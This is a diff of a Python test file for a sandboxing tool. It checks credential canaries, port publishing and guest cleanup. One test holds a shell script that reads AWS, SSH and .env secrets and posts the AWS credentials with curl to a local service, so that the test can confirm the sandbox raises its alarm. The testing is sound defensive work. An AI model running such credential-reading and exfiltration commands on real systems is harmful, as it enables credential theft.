@@ -12,15 +12,15 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from paddock.boundary import container
 from paddock.probes.planting.files import fingerprint
+from paddock.probes.scenarios.network import free_port
 from tests import busybox
-from tests.background import clean, killed_at_moments, one_message, running
+from tests.background import clean, kill_together, killed_at_moments, one_message, running
 from tests.boundary.field import wait_for
 from tests.capabilities import IS_ROOT, needs
 from tests.gateway.secure import serving
 from tests.gvisor import person_of, sh
-from tests.podman import containers, left
+from tests.podman import containers, left, places
 from tests.real.support import processes_with
 from tests.test_session__credentials import ALARMED, policy, read
 
@@ -84,7 +84,7 @@ def test_canaries_are_seen_and_their_use_ends_the_sandbox(person: Person, repo: 
     text = f'[workspace]\ncanaries = ["aws", "ssh", "env"]\n[network]\nmode = "allow"\nallow = [{read(service)}]\n'
     policy(person, text)
     script = "cat .env ~/.aws/credentials; head -1 ~/.ssh/id_ed25519; cat /proc/1/comm; "
-    script += f"curl -s -d @$HOME/.aws/credentials http://host:{service.port}/; sleep 20; echo went on"
+    script += f"curl -s -d @$HOME/.aws/credentials http://host:{service.port}/; sleep 100; echo went on"
     done = person.call("run", "--", "sh", "-c", script, cwd=repo)
     assert done.returncode == ALARMED, done.stderr
     assert done.stdout.startswith("STRIPE_SECRET_KEY=sk_live_")
@@ -97,15 +97,17 @@ def test_canaries_are_seen_and_their_use_ends_the_sandbox(person: Person, repo: 
 
 
 def test_a_published_port_is_reached_and_no_other_one(person: Person, repo: Path) -> None:
-    with socket.create_server(("127.0.0.1", 0)) as probe:
-        port = probe.getsockname()[1]
-    serve = 'import http.server as h; s = h.HTTPServer(("127.0.0.1", 8000), h.SimpleHTTPRequestHandler); '
-    serve += 'print("up", flush=True); s.serve_forever()'
-    with running(person, repo, "--quiet", "--publish", f"{port}:8000", command=("python3", "-c", serve)):
-        with urllib.request.urlopen(f"http://127.0.0.1:{port}/hello.txt", timeout=20) as answer:
-            assert answer.read() == b"hello\n"
-        with pytest.raises(ConnectionRefusedError):
-            socket.create_connection(("127.0.0.1", 8000), 5)
+    port = free_port()
+    with socket.socket() as held:  # which nobody else outside can listen on meanwhile
+        held.bind(("127.0.0.1", 0))
+        inside = held.getsockname()[1]
+        serve = f'import http.server as h; s = h.HTTPServer(("127.0.0.1", {inside}), h.SimpleHTTPRequestHandler); '
+        serve += 'print("up", flush=True); s.serve_forever()'
+        with running(person, repo, "--quiet", "--publish", f"{port}:{inside}", command=("python3", "-c", serve)):
+            with urllib.request.urlopen(f"http://127.0.0.1:{port}/hello.txt", timeout=60) as answer:
+                assert answer.read() == b"hello\n"
+            with pytest.raises(ConnectionRefusedError):
+                socket.create_connection(("127.0.0.1", inside), 5)
 
 
 def test_programs_look_into_each_other_only_where_the_policy_is_for_debugging(person: Person, repo: Path) -> None:
@@ -168,9 +170,7 @@ def test_clean_removes_a_guest_whose_guard_was_killed_too(person: Person, repo: 
         assert guests(person) != []
         assert bool(laid_out(person)) == IS_ROOT
         guards = [int(line.split(":")[0]) for line in processes_with(f"run --name {own} -- sh")]
-        for number in (19, 9):
-            for pid in {*guards, process.pid}:
-                os.kill(pid, number)
+        kill_together({*guards, process.pid})
         process.wait()
     assert [line.split(maxsplit=1)[0] for line in containers(person)] == [name]
     told = json.loads(person.call("clean", "--json", cwd=repo).stdout)
@@ -182,7 +182,7 @@ def test_clean_removes_a_guest_whose_guard_was_killed_too(person: Person, repo: 
 
 def guests(person: Person) -> list[str]:
     """The processes of runsc that live, of this person's sandboxes, once what is ending has had time."""
-    deadline = time.monotonic() + 20
+    deadline = time.monotonic() + 90
     while (found := _guests(str(person.home))) and time.monotonic() < deadline and not containers(person):
         time.sleep(0.1)
     return found
@@ -209,7 +209,4 @@ def laid_out(person: Person) -> list[str]:
     home = str(person.home)
     with open("/proc/self/mountinfo", errors="replace") as file:
         found = [line.split()[4] for line in file if home in line]
-    if IS_ROOT:
-        places = [f"{container.ROOTS_PLACE}/{name}" for name in os.listdir(container.ROOTS_PLACE)]
-        found += [place for place in places if container.live_directory_of(place).startswith(home)]
-    return found
+    return found + (places(person) if IS_ROOT else [])
